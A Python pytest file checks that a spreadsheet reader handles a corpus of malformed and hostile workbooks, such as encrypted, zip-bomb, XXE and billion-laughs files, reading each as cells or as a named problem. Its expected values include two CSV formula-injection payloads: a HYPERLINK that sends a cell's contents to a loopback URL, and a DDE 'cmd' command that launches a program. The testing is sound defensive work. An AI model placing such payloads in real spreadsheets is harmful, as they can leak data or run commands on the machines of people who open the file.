"""Every strange and hostile workbook of the shared corpus is answered: by its cells, or by one problem.

The corpus lies beside the project (../shared/corpus). Expected values are taken from INDEX.tsv ("odd"), and for cells
from the files' own XML (unzip -p) and text (iconv), not from this reader.
"""

import csv
from concurrent.futures import ThreadPoolExecutor
from pathlib import Path

import pytest

from kyoten.problems.problem import Unreadable
from kyoten.reader.workbook import CellFault, Workbook, read_workbook

CORPUS = Path(__file__).resolve().parents[3] / "shared" / "corpus"
READ = "read"

OUTCOMES = {
    "hostile/calamine__issue_385.xls": "encrypted",
    "hostile/calamine__pass_protected.ods": "encrypted",
    "hostile/sheetjs__apachepoi_password.xls.xlsb": "encrypted",
    "hostile/sheetjs__password_2002_128_enhanced.xls": "encrypted",
    "hostile/sheetjs__password_2002_40_972000.xls": "encrypted",
    "hostile/sheetjs__password_2002_40_basecrypto.xls": "encrypted",
    "hostile/sheetjs__password_2002_40_dss.xls": "encrypted",
    "made/empty.xlsx": "empty_file",
    "made/one_byte.xlsx": "unknown_type",
    "made/docx_as_xlsx.xlsx": "unknown_type",
    "made/html_as_xls.xls": "unknown_type",
    "made/plain_zip_as_xlsx.xlsx": "unknown_type",
    "made/csv_nul_bytes.csv": "unknown_type",
    "hostile/fastexcel__empty.xlsx": "unknown_type",
    "hostile/poi__clusterfuzz-testcase-minimized-POIFuzzer-5040805309710336.xlsx": "unknown_type",
    "made/truncated_last_30_bytes.xlsx": "damaged",
    "made/garbage_appended.xlsx": "damaged",
    "made/bitflip_third.xlsx": "damaged",
    "made/xls_truncated_half.xls": "damaged",
    "made/missing_sheet_part.xlsx": "damaged",
    "made/sst_index_out_of_range.xlsx": "damaged",
    "made/rels_target_external_http.xlsx": "damaged",
    "made/zipbomb_lying_declared_size.xlsx": "damaged",
    "hostile/exceldatareader__Test_git_issue_382_oom.xls": "damaged",
    "hostile/exceldatareader__Test_git_issue_467_empty_continue_leftoverbytes.xls": "reader_died",
    "made/zip_10k_entries.xlsx": "too_many_entries",
    "made/billion_laughs_sheet.xlsx": "unsafe_content",
    "made/xxe_http_loopback_sst.xlsx": "unsafe_content",
    "hostile/openspout__attack_quadratic_blowup.ods": "unsafe_content",
    "hostile/poi__poc-xmlbomb-empty.xlsx": "unsafe_content",
    "made/corner_cell_XFD1048576.xlsx": "too_many_cells",
    "made/cellref_beyond_limits.xlsx": "too_many_cells",
    "made/ods_repeat_2e9_rows.ods": "too_many_cells",
    "made/ods_repeat_columns_2e9.ods": "too_many_cells",
    "hostile/miniexcel__TestIssue208.xlsx": "too_many_cells",
    "hostile/calamine__issue_174.xlsx": READ,
    "made/styles_300k_xfs.xlsx": READ,
    "made/deep_nested_xml_200k.xlsx": READ,
    "made/duplicate_sheet_entry.xlsx": READ,
    "made/sheet_name_evil.xlsx": READ,
}

FORMATS = {
    "hostile/roo__type_excel.ods": "xls",
    "hostile/miniexcel__TestIssue272.xlsx": "xls",
    "made/xlsx_as_xls.xls": "xlsx",
    "hostile/poi__60512.xlsm": "xlsx",
    "hostile/poi__51519.xlsb": "xlsb",
    "hostile/poi__SampleSS.ods": "ods",
    "japanese/excella__勤務表.xls": "xls",
}

HEAD = ("事業名", "四半期", "進捗率", "評価", "担当課")
TAIL = ("防災", "平成31年4月", "-", "×", "危機管理課")
ROW = ("子育て支援①", "令和６年度 第１四半期", "５０％", "◎", "福祉課")
# CP932 has the full-width hyphen-minus (U+FF0D) where the Unicode files hold the minus sign (U+2212).
MINUS = ("㈱髙﨑～\u2212表", "R6.7", "1,200", "△", "改行\nあり")
HYPHEN = ("㈱髙﨑～\uff0d表", *MINUS[1:])
GRIDS = {
    "made/csv_cp932.csv": (HEAD, ROW, HYPHEN, TAIL),
    "made/csv_utf8_nobom.csv": (HEAD, ROW, MINUS, TAIL),
    "made/csv_utf16be_bom.csv": (HEAD, ROW, MINUS, TAIL),
    "made/csv_utf16le_nobom.csv": (HEAD, ROW, MINUS, TAIL),
    "made/csv_iso2022jp.csv": (HEAD, ("子育て支援", *ROW[1:]), ("表", *MINUS[1:]), TAIL),
    "hostile/phpspreadsheet__premiere.utf8bom.csv": (
        ("première", "second", "troisième"),
        ("Quatrième", "cinquième", "sixième"),
    ),
    "hostile/openspout__csv_with_utf32le_bom.csv": tuple(
        tuple(f"csv--{row}{col}" for col in (1, 2, 3)) for row in (1, 2, 3)
    ),
    "hostile/poi__SampleSS.strict.xlsx": (
        ("Test spreadsheet", None),
        ("2nd row", "2nd row 2nd column"),
        (None, None),
        ("This one is red", None),
    ),
}

CELLS = {
    "made/formula_injection.csv": {"A2": '=HYPERLINK("http://127.0.0.1/x?"&A1,"詳細")', "A4": "+cmd|' /C calc'!A0"},
    "japanese/codeforosaka__summary.csv": {"A1": "日付", "B374": "4602", "K374": "63"},
    "hostile/phpspreadsheet__explicitdate.xlsx": {
        "A1": 42,
        "C2": 3,
        "D3": CellFault("no_value", "=NOW()"),
        "E3": CellFault("no_value", "=TODAY()"),
    },
    # Column B holds error cells, C the words with another end as text, E the number of each error.
    "hostile/sheetjs__ErrorTypes.xlsx": {"B2": CellFault("error", "#NULL!"), "C2": "#NULL?", "E5": 4},
    "hostile/sheetjs__ErrorTypes.xls": {"B2": CellFault("error", "#NULL!"), "C2": "#NULL?", "E5": 4},
}

MERGED = {
    # merged_overlapping: A1:B2, B1:C3 and A1:B2 once more, as they stand in the part
    "made/merged_overlapping.xlsx": {(0, 0, 1, 1), (0, 1, 2, 2)},
    "hostile/frictionless__merged-cells.xlsx": {(0, 0, 2, 1)},
}

HIDDEN = {
    "hostile/sheetjs__sheet_visibility_strict.xlsx": [("Visible", False), ("Hidden", True), ("VeryHidden", True)],
    "hostile/poi__TwoSheetsOneHidden.xlsx": [("Sheet1", True), ("Sheet2", False)],
}


def _files():
    index = CORPUS / "INDEX.tsv"
    if not index.is_file():
        return []
    with index.open(encoding="utf-8", newline="") as lines:
        return [row["file"] for row in csv.DictReader(lines, delimiter="\t", quoting=csv.QUOTE_NONE)]


def _answer(name):
    try:
        return read_workbook((CORPUS / name).read_bytes(), name)
    except Unreadable as error:
        return error.problem


@pytest.fixture(scope="module")
def answers():
    """File → Workbook or Problem, each read in a process of its own; anything else raised fails every test here."""
    files = _files()
    assert files, f"The corpus of strange workbooks is missing: {CORPUS} must hold INDEX.tsv and its files."
    with ThreadPoolExecutor(2) as pool:
        return dict(zip(files, pool.map(_answer, files), strict=True))


def code_of(answer):
    return READ if isinstance(answer, Workbook) else answer.code


def test_every_file_is_answered_within_the_time_limit(answers):
    assert len(answers) == 138
    assert [name for name, answer in answers.items() if code_of(answer) == "reader_timeout"] == []


def test_every_real_office_workbook_is_read(answers):
    unread = {name: code_of(answer) for name, answer in answers.items() if name.startswith("japanese/")}
    assert set(unread.values()) == {READ}


def test_hostile_files_end_as_the_problem_that_says_why(answers):
    assert {name: code_of(answers[name]) for name in OUTCOMES} == OUTCOMES


def test_the_format_is_what_the_content_is(answers):
    assert {name: answers[name].format for name in FORMATS} == FORMATS


@pytest.mark.parametrize("name", GRIDS)
def test_a_small_file_is_read_cell_by_cell(answers, name):
    assert answers[name].sheets[0].rows == GRIDS[name]


@pytest.mark.parametrize("name", CELLS)
def test_cells_stand_at_their_addresses(answers, name):
    sheet = answers[name].sheets[0]
    found = {address: sheet.cell(int(address[1:]) - 1, ord(address[0]) - ord("A")) for address in CELLS[name]}
    assert found == CELLS[name]


@pytest.mark.parametrize("name", MERGED)
def test_merged_ranges_are_told_even_where_they_overlap(answers, name):
    assert set(answers[name].sheets[0].merged) == MERGED[name]


@pytest.mark.parametrize("name", HIDDEN)
def test_hidden_sheets_are_flagged(answers, name):
    assert [(sheet.name, sheet.hidden) for sheet in answers[name].sheets] == HIDDEN[name]


def test_chart_sheets_are_left_out_and_the_table_beside_them_is_read(answers):
    assert [sheet.name for sheet in answers["hostile/rustxlsxwriter__chartsheet03.xlsx"].sheets] == ["Sheet1"]
